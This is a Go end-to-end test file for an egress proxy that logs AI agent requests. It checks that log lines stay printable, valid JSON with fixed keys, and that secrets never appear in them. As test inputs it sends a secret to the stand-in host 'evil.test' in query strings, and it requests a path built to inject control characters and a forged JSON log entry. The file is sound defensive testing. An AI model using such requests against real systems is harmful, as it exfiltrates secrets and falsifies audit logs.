package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/signet-egress/signet/internal/testkit"
)

const secret = "s3cr3t-of-the-agent"

// Every line is printable JSON; each exchange has one line when it is decided and one when
// it is closed, with the same keys always; and what an agent puts into a query, a
// header or a body is in none of them.
func TestLog(t *testing.T) {
	s := newSite(t, options{config: "log: {level: debug}"})
	car := s.start()
	// Nobody listens there any more.
	s.old.Close()
	urls := []string{
		"http://evil.test/?q=" + secret,
		"https://evil.test/?q=" + secret,
		interceptedH1.url(s, "/small?q="+secret),
		strings.Replace(opaqueH1.url(s, "/?q="+secret), "opaque.test", "old-opaque.test", 1),
		strings.Replace(interceptedH1.url(s, "/?q="+secret), "https", "http", 1),
	}
	for _, m := range []mode{plain, opaqueH1, opaqueH2, interceptedH2} {
		urls = append(urls, m.url(s, "/echo?q="+secret), m.url(s, "/redirect?to=/?q="+secret), m.url(s, "/abort?n=10&q="+secret))
	}
	for _, url := range urls {
		testkit.Curl(t, "--proxy", car.proxyURL(), "--cacert", s.path("ca.pem"), "--output", "/dev/null",
			"--user", "agent:"+secret, "--cookie", "session="+secret, "--data", "body="+secret, url)
		testkit.Curl(t, "--proxy", car.proxyURL(), "--cacert", car.interceptionRoots(), "--output", "/dev/null", url)
	}
	say(t, car.addr, "GET /?q="+secret+" HTTP/1.1\r\nHost: x\r\n\r\n")
	say(t, car.addr, "GET http://user:"+secret+"@plain.test/ HTTP/1.1\r\nHost: x\r\n\r\n")
	say(t, car.addr, "nonsense "+secret+"\r\n\r\n")
	const odd = "/small/\u202e\u2066\u200b\u0085\xff%1b%0d%0a{\"level\":\"ERROR\"}" // goes on as it is
	at := strings.TrimPrefix(plain.url(s, ""), "http://")
	exchange(t, car.addr, "GET http://"+at+odd+" HTTP/1.1\r\nHost: "+at+"\r\nX-Signet-Trace: \u202e\r\n\r\n")

	all := car.receipts()
	decided, settled := make(map[string]int), make(map[string]int)
	for line := range strings.Lines(car.Output() + "\n") {
		if strings.Contains(line, secret) {
			t.Errorf("the secret is in %s", line)
		}
		if i := strings.IndexFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return !unicode.IsPrint(r) || r == unicode.ReplacementChar }); i >= 0 {
			t.Errorf("not printable: %q", line)
		}
		var fields map[string]any
		if err := json.Unmarshal([]byte(line), &fields); err != nil {
			t.Errorf("not JSON: %v: %s", err, line)
			continue
		}
		id, _ := fields["receipt_id"].(string)
		switch fields["msg"] {
		case "decision":
			decided[id]++
			expectKeys(t, fields, decisionKeys, decisionTargetKeys)
		case "close":
			settled[id]++
			expectKeys(t, fields, closeKeys, closeOptionalKeys)
		}
	}
	for _, r := range all {
		if decided[r.ReceiptID] != 1 || settled[r.ReceiptID] != 1 {
			t.Errorf("%s (%s %s): %d decision lines and %d close lines",
				r.ReceiptID, r.Outcome, r.Policy.Reason, decided[r.ReceiptID], settled[r.ReceiptID])
		}
	}
	if len(settled) != len(all) {
		t.Errorf("%d close lines for %d receipts", len(settled), len(all))
	}
}

var (
	everyLine          = []string{"time", "level", "msg"}
	decisionKeys       = []string{"receipt_id", "trace_id", "agent", "allowed", "reason", "rule", "mode"}
	decisionTargetKeys = []string{"method", "scheme", "host", "port", "path"} // where there is a target
	closeKeys          = []string{"receipt_id", "outcome", "reason", "duration_us", "bytes_up", "bytes_down"}
	closeOptionalKeys  = []string{"pinned_ip", "status", "error"} // where it was connected, answered, failed
)

func expectKeys(t *testing.T, fields map[string]any, required, optional []string) {
	t.Helper()
	for _, key := range slices.Concat(everyLine, required) {
		if _, ok := fields[key]; !ok {
			t.Errorf("%s is missing in %v", key, fields)
		}
	}
	for key := range fields {
		if !slices.Contains(slices.Concat(everyLine, required, optional), key) {
			t.Errorf("%s is not among the keys of a %s line", key, fields["msg"])
		}
	}
}

// What an upstream sends behind its answer is neither carried nor logged.
func TestNothingUnaskedIsLogged(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer func() { must(t, l.Close()) }()
	port := l.Addr().(*net.TCPAddr).Port
	s := newSite(t, options{rules: fmt.Sprintf("rules: [{name: plain, hosts: [plain.test], ports: [%d], schemes: [http]}]", port)})
	car := s.start()
	answered, ended := make(chan struct{}), make(chan error, 1)
	go func() { ended <- sayMoreThanAsked(l, answered) }()
	testkit.Curl(t, "--proxy", car.proxyURL(), fmt.Sprintf("http://plain.test:%d/", port))
	close(answered)
	must(t, <-ended)
	car.receipts()
	for line := range strings.Lines(car.Output() + "\n") {
		if !json.Valid([]byte(line)) || strings.Contains(line, secret) {
			t.Errorf("log line %s", line)
		}
	}
}

// sayMoreThanAsked answers one request and then, unasked, once more; it returns
// when the connection has ended.
func sayMoreThanAsked(l net.Listener, answered <-chan struct{}) error {
	c, err := l.Accept()
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if _, err := c.Read(make([]byte, 4096)); err != nil {
		return err
	}
	if _, err := io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"); err != nil {
		return err
	}
	<-answered
	if _, err := io.WriteString(c, secret); err != nil {
		return err
	}
	_, _ = io.Copy(io.Discard, c) // an end or a reset, either will do
	return nil
}
